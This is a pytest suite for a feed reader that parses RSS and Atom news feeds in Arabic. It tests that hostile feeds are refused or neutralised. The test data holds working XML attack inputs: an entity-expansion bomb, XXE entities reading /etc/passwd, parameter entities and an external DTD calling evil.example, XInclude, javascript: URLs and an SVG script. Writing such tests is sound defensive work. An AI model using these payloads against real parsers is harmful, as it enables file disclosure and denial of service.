"""Feeds: what is read of them, and that a hostile one costs nothing but its own look."""

import time

import pytest
from outlets import FEED, item, rss

from khabar.errors import IngestError
from khabar.watch.feed import read_feed, unmarked
from khabar.watch.listed import Listed
from khabar.watch.pace import pace

LINK = "https://jisr.example/1"
SECONDS = 8.0
"""No feed may cost more, on a machine that does other things too."""


def read(data: bytes) -> Listed:
    return read_feed(data, FEED, pace())


def test_rss() -> None:
    found = read(rss(item("/1?utm_source=x", "قصف <b>على</b> السوق", guid="g", words="<p>قال مصدر</p><script>x()</script><p>ثان</p>")))
    (entry,) = found.entries
    assert found.title == "جسر السنديان"
    assert (entry.key, entry.url) == (LINK, LINK + "?utm_source=x")
    assert (entry.title, entry.summary) == ("قصف على السوق", "قال مصدر\nثان")
    assert entry.said_at == "2024-05-14T07:30:00+00:00"


def test_atom() -> None:
    data = f"""<feed xmlns="http://www.w3.org/2005/Atom"><title>نهر</title><entry><title>خبر</title><link href="{LINK}"/>
    <id>tag:1</id>
    <published>2024-05-14T10:30:00+03:00</published><updated>2024-05-14T12:00:00Z</updated>
    <content type="html">&lt;p&gt;نص&lt;/p&gt;</content></entry></feed>"""
    (entry,) = read(data.encode()).entries
    assert (entry.url, entry.said_at, entry.summary) == (LINK, "2024-05-14T07:30:00+00:00", "نص")


def test_another_time_of_change_is_another_mark() -> None:
    body = '<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>خبر</title><link href="{}"/><updated>{}</updated></entry></feed>'
    marks = {read(body.format(LINK, at).encode()).entries[0].mark for at in ("2024-05-14T12:00:00Z", "2024-05-14T13:00:00Z")}
    assert len(marks) == 2


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "windows-1256", "iso-8859-6"])
def test_encodings(encoding: str) -> None:
    text = rss(item(LINK, "قصف على سوق السنديان")).decode().replace("utf-8", encoding)
    assert read(text.encode(encoding)).entries[0].title == "قصف على سوق السنديان"


@pytest.mark.parametrize("said", ["windows-1256", "utf-7", "rot13", "no-such-thing"])
def test_an_encoding_that_is_not_what_it_says(said: str) -> None:
    data = rss(item(LINK, "قصف على سوق السنديان")).replace(b"utf-8", said.encode())
    assert read(data).entries[0].title == "قصف على سوق السنديان"


BOMB = '<!DOCTYPE r [<!ENTITY a "ha">' + "".join(f'<!ENTITY b{i} "{f"&b{i - 1};" * 20 if i else "&a;" * 20}">' for i in range(20)) + "]>"
REFUSED = {
    "entity-bomb": BOMB.encode() + b"<rss version='2.0'><channel><title>&b19;</title></channel></rss>",
    "entity-bomb-utf16": (BOMB + "<rss version='2.0'><channel><title>&b19;</title></channel></rss>").encode("utf-16"),
    "file-entity": b"<!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><rss version='2.0'><channel><title>&x;</title></channel></rss>",
    "parameter-entity": b"<!DOCTYPE r [<!ENTITY % x SYSTEM 'http://evil.example/x'> %x;]><rss version='2.0'/>",
    "late-entity": b"<!DOCTYPE r [" + b"<!ELEMENT a ANY>" * 10 + b"<!ENTITY a 'x'>]><rss version='2.0'/>",
    "too-large": b"<rss version='2.0'>" + b" " * 4_000_000 + b"</rss>",
    "too-deep": b"<rss version='2.0'>" + b"<a>" * 5_000 + b"</a>" * 5_000 + b"</rss>",
    "too-many-elements": rss(*(["<item/>"] * 70_000)),
    "signs": b"<rss version='2.0'>" + b"<" * 1_000_000,
    "ampersands": b"<rss version='2.0'><channel><title>" + b"&" * 1_000_000 + b"</title></channel></rss>",
    "bangs": b"<rss version='2.0'><channel>" + b"<!" * 400_000,
    "html": b"<!doctype html><html><head><title>404</title></head><body><p>not found</p></body></html>",
    "json": b'{"version": "https://jsonfeed.org/version/1.1", "items": []}',
    "empty": b"",
    "spaces": b" \n" * 100,
    "binary": bytes(range(256)) * 40,
    "nul": rss(item(LINK)).replace(b"<channel>", b"<channel>\x00"),
    "gzip": b"\x1f\x8b\x08\x00" + b"\x00" * 30,
    "an-address": b"http://127.0.0.1:1/feed",
    "a-path": b"/etc/passwd",
    "svg": b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
}
NOTHING = {
    "script-address": item("javascript:alert(1)"),
    "file-address": item("file:///etc/passwd"),
    "data-address": item("data:text/html,x"),
    "with-password": item("https://user:secret@jisr.example/1"),
    "account": item("https://x.com/somebody/status/1"),
    "control": item("https://jisr.example/\x0b1"),
    "endless-address": item("https://jisr.example/" + "a" * 5_000),
    "no-words": "<item></item>",
}
HARMLESS = {
    "cut-off": rss(item(LINK), item(LINK + "2"))[:-60],
    "unclosed": b"<rss version='2.0'><channel><item><title>x</title><link>" + LINK.encode() + b"</link>",
    "comment": b"<rss version='2.0'><channel><!-- "
    + b"-- " * 300_000
    + b"--><item><link>"
    + LINK.encode()
    + b"</link></item></channel></rss>",
    "quoted-html": rss(item(LINK, words="<div>" * 20_000)),
    "long-title": rss(item(LINK, "ق" * 1_000_000)),
    "wild-date": rss(item(LINK, day="Tue, 99 Foo 99999 99:99:99 ZZZ")),
    "far-date": rss(item(LINK, day="Tue, 01 Jan 9999 00:00:00 -2359")),
    "stylesheet": b"<?xml-stylesheet href='http://evil.example/x.xsl' type='text/xsl'?>" + rss(item(LINK)).partition(b"?>")[2],
    "doctype": b"<!DOCTYPE rss SYSTEM 'http://evil.example/rss.dtd'>" + rss(item(LINK)).partition(b"?>")[2],
    "xinclude": rss(item(LINK) + "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd'/>"),
    "base": rss(item(LINK)).replace(b"<channel>", b"<channel xml:base='file:///etc/'>"),
    "bidi": rss(item(LINK, "قصف \u202eمقلوب\u2066")),
    "same-many-times": rss(*([item(LINK)] * 900)),
    "named-entities": rss(item(LINK)).replace(b"</title>", b"&nbsp;&nosuch;</title>"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_hostile_feeds_are_refused(name: str) -> None:
    start = time.monotonic()
    with pytest.raises(IngestError):
        read(REFUSED[name])
    assert time.monotonic() - start < SECONDS


@pytest.mark.parametrize("name", NOTHING)
def test_entries_that_lead_nowhere_are_left_and_told(name: str) -> None:
    found = read(rss(NOTHING[name], item(LINK)))
    assert [e.key for e in found.entries] == [LINK]
    assert "1 entries have neither" in " ".join(found.notes)


@pytest.mark.parametrize("name", HARMLESS)
def test_odd_feeds_give_what_is_in_them(name: str) -> None:
    start = time.monotonic()
    found = read(HARMLESS[name])
    assert found.entries[0].key == LINK
    assert len(found.entries) <= 2
    assert len(found.entries[0].title) <= 500
    assert "root:" not in f"{found}"
    assert "\u202e" not in f"{found}"
    assert time.monotonic() - start < SECONDS


def test_more_entries_than_are_taken() -> None:
    found = read(rss(*(item(f"{LINK}{n}") for n in range(1_200))))
    assert len(found.entries) == 1_000
    assert "1,200 entries" in " ".join(found.notes)


def test_an_entry_without_an_address_is_known_by_its_own_id() -> None:
    (first,) = read(rss(item(None, guid="tag:jisr,1", words="نص الخبر"))).entries
    assert (first.key, first.url, first.summary) == (f"{FEED}#tag:jisr,1", "", "نص الخبر")


def test_nothing_is_opened_that_a_feed_names(monkeypatch: pytest.MonkeyPatch) -> None:
    import builtins
    import socket

    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError(f"opened {args}")

    read(rss(item(LINK)))  # what is imported late is there
    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setattr(builtins, "open", refuse)
    for name in ("an-address", "a-path", "file-entity", "parameter-entity"):
        with pytest.raises(IngestError):
            read(REFUSED[name])
    for name in ("doctype", "xinclude", "stylesheet"):
        read(HARMLESS[name])


def test_unmarked() -> None:
    assert unmarked("<p>أ<br>ب</p>&amp; ج") == "أ\nب\n& ج"
    assert unmarked("  ") == ""
    assert unmarked("a\x00b <i>c</i>") == "ab c"
